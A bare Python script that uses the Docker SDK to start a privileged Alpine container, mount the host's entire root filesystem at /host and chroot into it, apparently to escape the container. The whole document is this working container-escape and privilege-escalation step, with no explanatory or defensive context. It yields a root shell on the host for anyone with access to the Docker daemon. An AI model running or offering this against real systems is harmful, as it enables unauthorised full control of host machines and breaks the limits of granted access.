import docker

client = docker.from_env()
client.containers.run("alpine", "chroot /host sh", privileged=True, volumes={"/": {"bind": "/host"}})
